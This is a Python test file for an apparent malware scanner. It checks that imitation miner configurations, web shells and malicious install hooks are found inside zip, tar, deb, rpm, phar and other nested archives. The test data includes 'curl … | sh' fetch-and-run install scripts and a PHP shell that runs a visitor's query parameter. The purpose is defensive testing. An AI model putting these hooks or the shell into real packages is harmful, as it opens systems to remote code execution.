# SPDX-License-Identifier: Apache-2.0
"""Archives made by the tools that make them elsewhere: the same imitation that is found as a plain file is found in each
format, in formats within formats, and named by its member; packages say what they run when they are installed."""
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pathlib
import shutil
import struct
import subprocess
import sys
import tarfile
import unittest
import zipfile
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import images
import imitations
from test_scan import Scratch, findings, scan

RULE = 'Miner configuration with a payable address'
PROGRAM_RULE = 'Miner by what it contains'
SECONDS = 600


def run(*command, cwd=None, data=None):
    return subprocess.run([str(c) for c in command], cwd=cwd, input=data, check=True, capture_output=True, timeout=SECONDS).stdout


def zipped(name, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, data)
    return out.getvalue()


def tarred(name, data, mode='w'):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        entry = tarfile.TarInfo(name)
        entry.size, entry.mode = len(data), 0o755
        t.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def asar(files, data):
    directory = json.dumps({'files': files}).encode()
    padded = len(directory) + 3 & ~3
    return struct.pack('<IIII', 4, padded + 8, padded + 4, len(directory)) + directory.ljust(padded, b'\0') + data


def phar(files, packer=None, stub=b'<?php /* DAVY TEST IMITATION */ __HALT_COMPILER(); ?>\r\n'):
    """An archive of PHP: the files of a dictionary, each bare, deflated or packed by bzip2."""
    entries, body = b'', b''
    for name, data in files.items():
        packed, flags = data, 0o644
        if packer == 'deflate':
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed, flags = c.compress(data) + c.flush(), flags | 0x1000
        elif packer == 'bzip2':
            packed, flags = bz2.compress(data), flags | 0x2000
        entries += struct.pack('<I', len(name)) + name.encode() + struct.pack('<IIIIII', len(data), 0, len(packed), zlib.crc32(data), flags, 0)
        body += packed
    manifest = struct.pack('<IHII', len(files), 0x1100, 0x10000, 6) + b'a.phar' + struct.pack('<I', 0) + entries
    whole = stub + struct.pack('<I', len(manifest)) + manifest + body
    return whole + hashlib.sha1(whole).digest() + struct.pack('<I', 2) + b'GBMB'


class Formats:
    """One function per format: (file name, member name in it) from a name, the data and a folder to work in."""

    def __init__(self, work):
        self.work = pathlib.Path(work)
        self.n = 0

    def folder(self, name, data):
        self.n += 1
        folder = self.work / str(self.n)
        (folder / 'root').mkdir(parents=True)
        (folder / 'root' / name).write_bytes(data)
        return folder

    def zip(self, name, data):
        return 'a.zip', name, zipped(name, data)

    def jar(self, name, data):
        return 'a.jar', f'BOOT-INF/classes/{name}', zipped(f'BOOT-INF/classes/{name}', data)

    def asar(self, name, data):
        return 'app.asar', f'lib/{name}', asar({'lib': {'files': {name: {'size': len(data), 'offset': '0', 'executable': True}}}}, data)

    def phar(self, name, data):
        return 'a.phar', f'lib/{name}', phar({f'lib/{name}': data}, 'deflate')

    def tar(self, name, data):
        return 'a.tar', name, tarred(f'./{name}', data)

    def sevenzip(self, name, data):
        folder = self.folder(name, data)
        run('7z', 'a', '-bd', folder / 'a.7z', name, cwd=folder / 'root')
        return 'a.7z', name, (folder / 'a.7z').read_bytes()

    def iso(self, name, data):
        folder = self.folder(name, data)
        run('genisoimage', '-quiet', '-R', '-o', folder / 'a.iso', folder / 'root')
        return 'a.iso', name, (folder / 'a.iso').read_bytes()

    def squashfs(self, name, data, packer='zstd'):
        folder = self.folder(name, data)
        run('mksquashfs', folder / 'root', folder / 'a.snap', '-comp', packer, '-noappend', '-quiet', '-no-progress')
        return 'a.snap', name, (folder / 'a.snap').read_bytes()

    def appimage(self, name, data):
        """A program with a table of sections, which linkers put last, and a file system behind it."""
        program = bytearray(imitations.tiny_elf())
        program[40:48], program[58:62] = struct.pack('<Q', len(program)), struct.pack('<HH', 64, 1)
        return 'a.AppImage', name, bytes(program) + bytes(64) + self.squashfs(name, data, 'gzip')[2]

    def cab(self, name, data):
        folder = self.folder(name, data)
        run('gcab', '-c', '-z', folder / 'a.cab', name, cwd=folder / 'root')
        return 'a.cab', name, (folder / 'a.cab').read_bytes()

    def tgz(self, name, data):
        return 'a.tgz', name, tarred(name, data, 'w:gz')

    def txz(self, name, data):
        return 'a.tar.xz', name, tarred(name, data, 'w:xz')

    def tbz2(self, name, data):
        return 'a.tar.bz2', name, tarred(name, data, 'w:bz2')

    def tzst(self, name, data):
        return 'a.tar.zst', name, run('zstd', '-qc', data=tarred(name, data))

    def gz(self, name, data):
        return f'{name}.gz', name, gzip.compress(data)

    def xz(self, name, data):
        return f'{name}.xz', name, lzma.compress(data)

    def bz2(self, name, data):
        return f'{name}.bz2', name, bz2.compress(data)

    def zst(self, name, data):
        return f'{name}.zst', name, run('zstd', '-qc', data=data)

    def ar(self, name, data):
        folder = self.folder(name, data)
        run('ar', 'rc', folder / 'a.a', folder / 'root' / name)
        return 'a.a', name, (folder / 'a.a').read_bytes()

    def cpio(self, name, data):
        folder = self.folder(name, data)
        return 'a.cpio', name, run('cpio', '-o', '-H', 'newc', '--quiet', cwd=folder / 'root', data=f'{name}\n'.encode())

    def deb(self, name, data, **scripts):
        folder = self.folder(name, data)
        control = folder / 'root' / 'DEBIAN'
        control.mkdir()
        (control / 'control').write_text('Package: imitation\nVersion: 1\nArchitecture: all\nMaintainer: Davy <davy@example.org>\nDescription: DAVY TEST IMITATION\n')
        for script, text in scripts.items():
            (control / script).write_text(text)
            (control / script).chmod(0o755)
        run('dpkg-deb', '--root-owner-group', '-b', folder / 'root', folder / 'a.deb')
        return 'a.deb', f'data.tar.xz!{name}', (folder / 'a.deb').read_bytes()

    def rpm(self, name, data, post=''):
        folder = self.folder(name, data)
        (folder / 'a.spec').write_text(
            'Name: imitation\nVersion: 1\nRelease: 1\nSummary: DAVY TEST IMITATION\nLicense: none\nBuildArch: noarch\n%description\nDAVY TEST IMITATION\n'
            f'%install\nmkdir -p %{{buildroot}}/opt\ncp {folder}/root/{name} %{{buildroot}}/opt/\n'
            + (f'%post\n{post}\n' if post else '') + f'%files\n/opt/{name}\n')
        run('rpmbuild', '-bb', '--define', f'_topdir {folder}', '--define', '_build_id_links none', '--nodebuginfo', folder / 'a.spec')
        (made,) = (folder / 'RPMS').rglob('*.rpm')
        return 'a.rpm', f'opt/{name}', made.read_bytes()

    ALL = {'zip': (), 'jar': (), 'tar': (), 'tgz': (), 'txz': (), 'tbz2': (), 'tzst': ('zstd',), 'gz': (), 'xz': (), 'bz2': (),
           'zst': ('zstd',), 'ar': ('ar',), 'cpio': ('cpio',), 'deb': ('dpkg-deb',), 'rpm': ('rpmbuild',),
           'asar': (), 'phar': (), 'sevenzip': ('7z',), 'iso': ('genisoimage',), 'squashfs': ('mksquashfs',), 'appimage': ('mksquashfs',), 'cab': ('gcab',)}

    def there(self):
        return [f for f, tools in self.ALL.items() if all(shutil.which(t) for t in tools)]


def paths(target, rule):
    found = set()
    for f in findings(target):
        if f['rule'] == rule:
            found |= {f['subject']['name'], *f.get('also', [])}
    return found


class Archives(Scratch):
    def setUp(self):
        super().setUp()
        self.root = self.temp / 'root'
        (self.temp / 'work').mkdir()
        self.formats = Formats(self.temp / 'work')
        self.serial = 0

    def put(self, path, data):
        target = self.root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())

    def config(self):
        """The imitation, each time with other bytes, so that equal contents do not fold into one finding."""
        self.serial += 1
        return (imitations.miner_config() + ' ' * self.serial).encode()

    def test_a_plain_file_and_a_member_of_each_format(self):
        want = {'/plain/config.json'}
        self.put('plain/config.json', self.config())
        for f in self.formats.there():
            name, member, data = getattr(self.formats, f)('config.json', self.config())
            self.put(f'{f}/{name}', data)
            want.add(f'/{f}/{name}!{member}')
        report, _ = scan(self.root)
        self.assertEqual(paths(report['targets'][0], RULE), want)

    def test_archives_of_php_under_other_names(self):
        """PHP runs them whatever they are called and whatever stands before them: each file in them is looked at."""
        jpeg = b'\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9'
        self.put('a/avatar.jpg', phar({'x/c.json': self.config()}, 'deflate', jpeg + b'<?php __HALT_COMPILER(); ?>\r\n'))
        self.put('b/data', phar({'one.txt': b'nothing\n', 'c.json': self.config()}, 'bzip2'))
        self.put('var/www/html/c.phar', phar({'up.php': b'<?php /* DAVY TEST IMITATION */ $f = "sys"."tem"; $f($_GET["c"]);\n'}, 'deflate'))
        self.put('d/tool.phar', phar({'a.php': b'<?php echo 1;\n', 'b.php': b'<?php return [2];\n'}, 'deflate'))
        report, _ = scan(self.root)
        target = report['targets'][0]
        self.assertEqual(paths(target, RULE), {'/a/avatar.jpg!x/c.json', '/b/data!c.json'})
        self.assertEqual(paths(target, 'Page runs what a visitor sends'), {'/var/www/html/c.phar!up.php'})
        self.assertFalse([f for f in findings(target) if f['subject']['name'].startswith('/d/')])

    def test_formats_within_formats(self):
        want = set()
        for outer in self.formats.there():
            for inner in self.formats.there():
                if 'rpm' in (outer, inner) and {outer, inner} != {'rpm', 'zip'}:
                    continue  # rpmbuild takes a second each time
                name, member, data = getattr(self.formats, inner)('config.json', self.config())
                box, boxed, data = getattr(self.formats, outer)(name, data)
                self.put(f'{outer}-{inner}/{box}', data)
                # What is packed as a whole in a tar's place is that tar: a.tar.gz of a tar has no name between.
                if outer in ('gz', 'xz', 'bz2', 'zst') and inner in ('tar', 'cpio'):
                    want.add(f'/{outer}-{inner}/{box}!{member}')
                else:
                    want.add(f'/{outer}-{inner}/{box}!{boxed}!{member}')
        report, _ = scan(self.root)
        self.assertEqual(paths(report['targets'][0], RULE), want)

    def test_programs_are_judged_as_programs(self):
        program = imitations.miner_elf() if hasattr(imitations, 'miner_elf') else None
        if program is None:
            program = imitations.tiny_elf() + b'--donate-level\0--nicehash\0mining.subscribe\0mining.submit\0stratum+tcp://\0'
        self.put('plain/x', program)
        report, _ = scan(self.root)
        rules = {f['rule'] for f in findings(report['targets'][0]) if f['subject']['name'] == '/plain/x'}
        self.assertTrue(rules)
        for f in self.formats.there():
            self.serial += 1
            name, member, data = getattr(self.formats, f)('x', program + b'\0' * self.serial)
            self.put(f'{f}/{name}', data)
        report, _ = scan(self.root)
        for rule in rules:
            for f in self.formats.there():
                with self.subTest(rule=rule, format=f):
                    self.assertTrue([p for p in paths(report['targets'][0], rule) if p.startswith(f'/{f}/') and '!' in p])

    def test_members_carry_their_layer(self):
        if images.missing_tools() or os.geteuid():
            self.skipTest('umoci needs root and its tools')
        image = images.Layout(self.temp)
        image.write('/srv/a.zip', zipped('in/config.json', self.config()))
        image.commit('COPY a.zip /srv/')
        (image.root / 'srv/a.zip').unlink()
        image.commit('RUN rm /srv/a.zip')
        report, _ = scan(image.layout)
        (found,) = [f for f in findings(report['targets'][0]) if f['rule'] == RULE]
        self.assertEqual(found['subject']['name'], '/srv/a.zip!in/config.json')
        self.assertEqual((found['subject']['layer'], found['subject']['layer_state']), (1, 'deleted'))

    def test_scripts_of_packages_within_packages(self):
        dropper = '#!/bin/sh\n# DAVY TEST IMITATION\ncurl -s https://files.example/davy-test-imitation | sh\n'
        rule = 'Package runs what it fetches when it is installed'
        hook = json.dumps({'name': 'x', 'version': '1.0.0', 'scripts': {'postinstall': 'curl -s https://files.example/x | sh'}})
        want = {'/x.tgz!package/package.json', '/x.whl.zip!x/setup.py', '/x.apk!.post-install'}
        self.put('x.tgz', tarred('package/package.json', hook.encode(), 'w:gz'))
        self.put('x.whl.zip', zipped('x/setup.py', '# DAVY TEST IMITATION\nimport os\nos.system("curl -s https://files.example/y | sh")\n'))
        self.put('x.apk', gzip.compress(tarred('.PKGINFO', b'pkgname = x\n')[:1024]) + tarred('.post-install', dropper.encode() + b' ', 'w:gz'))
        if shutil.which('dpkg-deb'):
            self.put('x.deb', self.formats.deb('f', b'x\n', postinst=dropper + '# deb\n')[2])
            want.add('/x.deb!control.tar.xz!postinst')
        if shutil.which('rpmbuild'):
            self.put('x.rpm', self.formats.rpm('f', b'x\n', post='curl -s https://files.example/z | sh')[2])
            want.add('/x.rpm!(postin)')
        report, _ = scan(self.root)
        self.assertEqual(paths(report['targets'][0], rule), want)

    def test_a_spread_of_what_is_honest_is_quiet(self):
        for name, scripts in {'esbuild': {'postinstall': 'node install.js'}, 'sharp': {'install': 'node install/check.js || npm run build'},
                              'husky': {'prepare': 'husky install'}, 'native': {'install': 'node-gyp rebuild'}}.items():
            self.put(f'{name}.tgz', tarred('package/package.json', json.dumps({'name': name, 'scripts': scripts}).encode(), 'w:gz'))
        self.put('x.tar.gz', tarred('x/setup.py', b'from setuptools import setup\nexec(open("x/v.py").read())\nsetup(name="x", cmdclass={})\n', 'w:gz'))
        report, code = scan(self.root)
        self.assertEqual((findings(report['targets'][0]), code), ([], 0))

    def test_what_was_not_looked_at_is_told(self):
        locked = bytearray(zipped('secret', b'DAVY TEST IMITATION'))
        for record, flags in ((b'PK\3\4', 6), (b'PK\1\2', 8)):
            locked[locked.index(record) + flags] |= 1
        self.put('locked.zip', bytes(locked))
        self.put('a.7z', b"7z\xbc\xaf'\x1c" + bytes(range(100)))
        if shutil.which('7z'):
            folder = self.formats.folder('secret', b'DAVY TEST IMITATION')
            run('7z', 'a', '-bd', '-mhe=on', '-pimitation', self.root / 'names.7z', 'secret', cwd=folder / 'root')
        self.put('cut.tar.gz', tarred('a', os.urandom(100000), 'w:gz')[:50000])
        self.put('whole.zip', zipped('a', b'x\n'))
        report, code = scan(self.root)
        told = {gap['what']: gap['why'] for gap in report['targets'][0]['skipped']['list']}
        self.assertIn('password', told.pop('/names.7z', 'password'))
        self.assertEqual(set(told), {'/locked.zip', '/a.7z', '/cut.tar.gz'})
        self.assertIn('password', told['/locked.zip'])
        self.assertIn('corrupt', told['/a.7z'])
        self.assertIn('corrupt', told['/cut.tar.gz'])
        self.assertEqual(code, 0)

    def test_long_holes_are_no_bomb(self):
        """The disk of a virtual machine: 300 GB of which a few kB are there, alone, in a layer and in an archive."""
        self.root.mkdir()
        disk = self.root / 'disk.img'
        with open(disk, 'wb') as f:
            f.write(b'DAVY TEST IMITATION\n')
            f.seek(300 * 10**9)
            f.write(imitations.ssh_public_key().encode() + b"\n" + imitations.aws_credentials().encode())
        run('tar', '-S', '--format=gnu', '-cf', self.temp / 'gnu.tar', '-C', self.root, 'disk.img')
        run('tar', '-S', '--format=posix', '-czf', self.temp / 'posix.tgz', '-C', self.root, 'disk.img')
        shutil.copy(self.temp / 'posix.tgz', self.root / 'backup.tgz')
        for target, names in ((self.root, {'/disk.img', '/backup.tgz!disk.img'}), (self.temp / 'gnu.tar', {'/disk.img'}),
                              (self.temp / 'posix.tgz', {'/disk.img'})):
            report, _ = scan(target)
            target = report['targets'][0]
            self.assertEqual({f['subject']['name'] for f in findings(target)}, names)
            told = {gap['what']: gap['why'] for gap in target['skipped']['list']}
            self.assertEqual(set(told), names)
            self.assertEqual({why.split(' of ')[0] for why in told.values()}, {'300 GB'})
            self.assertEqual(target['unread']['list'], [])

    def test_large_archives_stream_within_the_memory(self):
        noise = os.urandom(1 << 20) * 96
        big = io.BytesIO()
        with tarfile.open(fileobj=big, mode='w:gz', compresslevel=0) as t: # noise does not compress
            for name, data in (('noise', noise), ('x/config.json', self.config()), ('more', noise)):
                entry = tarfile.TarInfo(name)
                entry.size = len(data)
                t.addfile(entry, io.BytesIO(data))
        self.put('big.tar.gz', big.getvalue())
        report, _ = scan(self.root)
        self.assertEqual(paths(report['targets'][0], RULE), {'/big.tar.gz!x/config.json'})


if __name__ == '__main__':
    unittest.main(verbosity=2)
